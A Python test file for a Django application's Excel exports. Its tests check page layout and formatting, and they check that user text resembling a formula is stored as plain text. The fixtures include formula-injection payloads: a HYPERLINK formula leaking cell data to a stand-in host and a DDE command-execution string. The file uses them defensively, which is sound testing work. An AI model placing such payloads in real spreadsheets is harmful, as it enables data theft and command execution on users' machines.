"""Every workbook prints and is safe (library/xlsx.py, docs/architecture.md §6 "Excel").

Each export reachable over HTTP is downloaded with user text that a spreadsheet would take for a
formula (= + - @) and opened with openpyxl: no cell is a formula and the text is there exactly as
typed; every sheet is landscape A4, one page wide, repeats and freezes its header row, has filter
buttons over all its columns, real dates and right-aligned numbers. Then `library.xlsx` itself:
percentages, row heights of wrapped text, titles that are never cut.
"""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl.utils import get_column_letter

from library.workcalendar import Week
from library.xlsx import (
    FORMULA_STARTS,
    LINE_HEIGHT,
    MAX_ROW_HEIGHT,
    Percent,
    Score,
    Sheet,
    build_sheets,
    build_workbook,
)
from reports.models import Indicator
from reports.services import periodic
from tasks.services.weekly import weekly_summary_run
from tasks.tests.factories import assign
from units.tests.support import Q3, file_report

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)"]
NUMBER_FORMATS = {"#,##0", "#,##0.0", "0.0%"}


def _book(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content))  # normal mode: styles and print setup


def _check_workbook(book: openpyxl.Workbook, expect_text: list[str]) -> dict[str, int]:
    """Assert what every sheet of every export must have; count dates and numbers seen."""
    seen = {"dates": 0, "numbers": 0}
    values = set()
    for sheet in book.worksheets:
        headers = [c.value for c in sheet[3]]
        while headers and headers[-1] is None:
            headers.pop()
        assert headers and all(headers), (sheet.title, headers)
        last = get_column_letter(len(headers))
        # Print setup.
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert int(setup.paperSize) == 9, sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True, sheet.title
        assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0), sheet.title
        assert sheet.print_title_rows == "$3:$3", sheet.title
        assert sheet.freeze_panes == "A4", sheet.title
        assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
        assert sheet.page_margins.left <= 0.5 and sheet.page_margins.right <= 0.5
        # Filter buttons on the header row, over every header column and every row.
        assert sheet.auto_filter.ref == f"A3:{last}{sheet.max_row}", sheet.title
        # The title and subtitle are never cut inside column A.
        for row in (1, 2):
            merged = f"A{row}:{last}{row}" in {str(r) for r in sheet.merged_cells.ranges}
            assert merged or not sheet.cell(row=row, column=1).alignment.wrap_text, (sheet.title, row)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                if value is None:
                    continue
                values.add(value)
                if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                if cell.row <= 3:
                    continue
                if isinstance(value, datetime):
                    assert cell.is_date and cell.number_format in ("DD/MM/YYYY", "DD/MM/YYYY HH:MM")
                    assert cell.alignment.horizontal == "center", (sheet.title, cell.coordinate)
                    seen["dates"] += 1
                elif isinstance(value, (int, float)) and not isinstance(value, bool):
                    assert cell.alignment.horizontal == "right", (sheet.title, cell.coordinate)
                    assert cell.number_format in NUMBER_FORMATS, (sheet.title, cell.coordinate)
                    seen["numbers"] += 1
                elif isinstance(value, str):
                    assert cell.alignment.wrap_text and cell.alignment.vertical == "top"
    for text in expect_text:
        assert text in values, text
    return seen


@pytest.fixture
def dangerous_tasks(org, time_machine):
    """Commune A received five tasks whose subjects look like formulas; all are overdue now."""
    time_machine.move_to("2026-11-02 08:00 +07:00")
    for subject in DANGEROUS:
        assign(org, org.commune_a, deadline=date(2026, 11, 16), subject=subject)
    time_machine.move_to("2026-11-25 10:00 +07:00")


# ---- the exports, over HTTP ---------------------------------------------------------------------


@pytest.mark.parametrize("who", ["office_staff", "chair_a"])
def test_task_export_is_text_and_printable(client, org, dangerous_tasks, who):
    client.force_login(getattr(org, who))
    book = _book(client.get(reverse("tasks:assignment_export")))
    seen = _check_workbook(book, DANGEROUS)
    assert seen["dates"] >= 3 * len(DANGEROUS)  # three deadlines per assignment
    sheet = book.active
    subjects = {r[0].value: r for r in sheet.iter_rows(min_row=4)}
    row = subjects[HYPERLINK]
    assert row[0].data_type == "s" and row[0].value == HYPERLINK  # no visible apostrophe added
    assert row[5].is_date and row[5].value.date() == date(2026, 11, 16)


def test_per_unit_statistics_export(client, org, dangerous_tasks):
    org.commune_b.name = "@SUM(A1) Xã Hợp Thành"
    org.commune_b.save()
    assign(org, org.commune_b, deadline=date(2026, 12, 20), subject="-2+3")
    client.force_login(org.office_staff)
    book = _book(client.get(reverse("tasks:unit_table"), {"format": "xlsx"}))
    seen = _check_workbook(book, ["@SUM(A1) Xã Hợp Thành"])
    assert seen["numbers"] > 0
    rows = {r[0].value: r for r in book.active.iter_rows(min_row=4)}
    assert rows["Xã Tân Trào"][1].value == len(DANGEROUS)
    assert rows["@SUM(A1) Xã Hợp Thành"][1].value == 1


def test_monday_summary_export(client, org, dangerous_tasks):
    summary = weekly_summary_run(week=Week.parse("2026-W48"), deliver=False).result
    client.force_login(org.office_staff)
    book = _book(client.get(reverse("tasks:summary_download", args=[summary.week, "xlsx"])))
    seen = _check_workbook(book, DANGEROUS)
    assert seen["dates"] > 0 and seen["numbers"] > 0
    assert len(book.worksheets) == 2
    flat = book.worksheets[1]
    tasks = {r[3].value: r for r in flat.iter_rows(min_row=4)}
    assert set(DANGEROUS) <= set(tasks)
    assert tasks[DDE][5].is_date and tasks[DDE][5].value.date() == date(2026, 11, 16)
    assert tasks[DDE][7].value == 7 and tasks[DDE][7].alignment.horizontal == "right"  # days overdue


def test_rollup_export(client, org, template, time_machine):
    org.commune_a.name = "=1+1 Xã Tân Trào"
    org.commune_a.save()
    # Before any report uses it, the indicator's label is what the reviewer typed: a formula.
    Indicator.objects.filter(code="hoi_nghi_quan_triet").update(label=DDE)
    file_report(org, template, org.commune_a, org.chair_a, values={"hoi_nghi_quan_triet": 2}, time_machine=time_machine)
    time_machine.move_to("2026-09-25 08:00 +07:00")
    periodic.quarter_rollup_run(quarter=Q3)
    client.force_login(org.reviewer)
    book = _book(client.get(reverse("reports:rollup_download", args=[Q3.key, "xlsx"])))
    seen = _check_workbook(book, ["=1+1 Xã Tân Trào", DDE])
    assert seen["dates"] > 0 and seen["numbers"] > 0
    units, indicators = book.worksheets
    row = next(r for r in units.iter_rows(min_row=4) if r[0].value == "=1+1 Xã Tân Trào")
    assert row[3].is_date and row[3].value.date() == date(2026, 9, 18)
    figures = next(r for r in indicators.iter_rows(min_row=4) if r[1].value == DDE)
    assert figures[4].value == 2 and figures[4].alignment.horizontal == "right"


def test_register_export(client, org, dangerous_tasks):
    weekly_summary_run(week=Week.parse("2026-W48"), deliver=False)
    client.force_login(org.office_staff)
    book = _book(client.get(reverse("registers:register_export")))
    seen = _check_workbook(book, ["01/BC-VP"])
    assert seen["dates"] == 2  # the document's date and when it was entered
    row = next(book.active.iter_rows(min_row=4))
    assert (row[1].value, row[2].value.date()) == ("01/BC-VP", date(2026, 11, 23))


# ---- library.xlsx itself --------------------------------------------------------------------------


def _sheet(content: bytes, index: int = 0):
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[index]


def _one(rows, widths=(20, 10), headers=("Nội dung", "Số"), **kwargs) -> openpyxl.worksheet.worksheet.Worksheet:
    return _sheet(build_sheets([Sheet("Tiêu đề", "Phụ đề", list(headers), rows, list(widths), **kwargs)]))


def test_percent_is_a_fraction_formatted_as_percent():
    sheet = _one([["Tỷ lệ", Percent(92.5)], ["Chưa có", None]])
    cell = sheet["B4"]
    assert cell.value == pytest.approx(0.925) and cell.number_format == "0.0%"
    assert cell.alignment.horizontal == "right" and cell.data_type == "n"
    assert sheet["B5"].value is None  # None stays an empty cell


def test_numbers_dates_and_booleans():
    aware = datetime.fromisoformat("2026-11-02T01:30:00+00:00")  # 08:30 in Vietnam
    sheet = _one(
        [[1234567, 2.25, Decimal("3.5"), True, date(2026, 1, 2), aware, Score(Decimal("68.54"))]],
        widths=(10, 10, 10, 10, 12, 16, 8),
        headers=("a", "b", "c", "d", "e", "f", "g"),
    )
    a, b, c, d, e, f, g = sheet[4]
    assert (a.value, a.number_format, a.alignment.horizontal) == (1234567, "#,##0", "right")
    assert (b.value, b.number_format, b.alignment.horizontal) == (2.25, "#,##0.0", "right")
    assert (c.value, c.number_format, c.alignment.horizontal) == (3.5, "#,##0.0", "right")
    assert d.value is True and d.alignment.horizontal != "right"
    assert e.is_date and e.value == datetime(2026, 1, 2) and e.number_format == "DD/MM/YYYY"
    assert f.is_date and f.value == datetime(2026, 11, 2, 8, 30) and f.number_format == "DD/MM/YYYY HH:MM"
    assert (g.value, g.number_format, g.alignment.horizontal) == (68.54, "#,##0.00", "right")


def test_row_heights_fit_wrapped_text():
    long = "chữ " * 25  # 100 characters in a column 20 wide (about 22 a line): 5 lines
    sheet = _one([[long, 1], ["một\nhai\nba", 2], ["ngắn", 3], ["x" * 5000, 4]])
    assert sheet.row_dimensions[4].height == pytest.approx(5 * LINE_HEIGHT)
    assert sheet.row_dimensions[5].height == pytest.approx(3 * LINE_HEIGHT)  # explicit line breaks
    assert sheet.row_dimensions[6].height is None  # one line: the default height
    assert sheet.row_dimensions[7].height == MAX_ROW_HEIGHT
    for row in (4, 5, 6):
        alignment = sheet.cell(row=row, column=1).alignment
        assert alignment.wrap_text and alignment.vertical == "top"


def test_header_row_height_fits_a_long_header():
    sheet = _one([["a", 1]], widths=(20, 8), headers=("Nội dung", "Quá hạn chưa hoàn thành"))
    assert sheet["B3"].alignment.wrap_text
    assert sheet.row_dimensions[3].height == pytest.approx(3 * LINE_HEIGHT)  # 23 chars, 8 a line


def test_title_is_not_wrapped_and_runs_over():
    sheet = _one([["a", 1]])
    assert sheet["A1"].value == "Tiêu đề" and sheet["A2"].value == "Phụ đề"
    assert sheet["A1"].alignment.wrap_text is not True and sheet["A2"].alignment.wrap_text is not True
    assert not sheet.merged_cells.ranges and sheet.row_dimensions[1].height is None
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14


def test_a_title_longer_than_the_table_wraps_across_all_columns():
    title = "Tổng hợp kết quả thực hiện Chỉ thị theo đơn vị — Quý III năm 2026 (lần 1)"
    sheet = _sheet(build_workbook(title=title, subtitle="Dự thảo", headers=["a", "b"], rows=[], widths=[10, 10]))
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:B1"}
    assert sheet["A1"].value == title and sheet["A1"].alignment.wrap_text
    assert sheet.row_dimensions[1].height > 2 * LINE_HEIGHT
    assert sheet["A2"].alignment.wrap_text is not True  # the short subtitle still runs on


def test_text_that_looks_like_a_formula_stays_text():
    typed = [*DANGEROUS, "\tTab", "\rCR", "#N/A", "=", "Bình thường"]
    sheet = _one([[t, 1] for t in typed])
    for row, text in enumerate(typed, start=4):
        cell = sheet.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is text.startswith(FORMULA_STARTS)


def test_control_characters_do_not_break_the_export():
    sheet = _one([["Dán\x0btừ Word\x01", 1]])
    assert sheet["A4"].value == "Dántừ Word"


def test_lazy_translations_are_text():
    sheet = _one([[gettext_lazy("Tổng cộng"), 1]], headers=(gettext_lazy("Đơn vị"), "Số"))
    assert sheet["A4"].value == "Tổng cộng" and sheet["A3"].value == "Đơn vị"


def test_every_sheet_has_filters_and_print_setup_unless_asked_otherwise():
    content = build_sheets(
        [
            Sheet("Một", "", ["a", "b", "c"], [[1, 2, 3]], [10, 10, 10], name="Một"),
            Sheet("Hai", "", ["a"], [], [10], name="Hai", autofilter=False, landscape=False),
        ]
    )
    first, second = _sheet(content, 0), _sheet(content, 1)
    assert first.auto_filter.ref == "A3:C4"
    assert first.page_setup.orientation == "landscape" and first.print_options.horizontalCentered
    assert second.auto_filter.ref is None
    assert second.page_setup.orientation == "portrait" and second.print_title_rows == "$3:$3"
    assert second.sheet_properties.pageSetUpPr.fitToPage is True
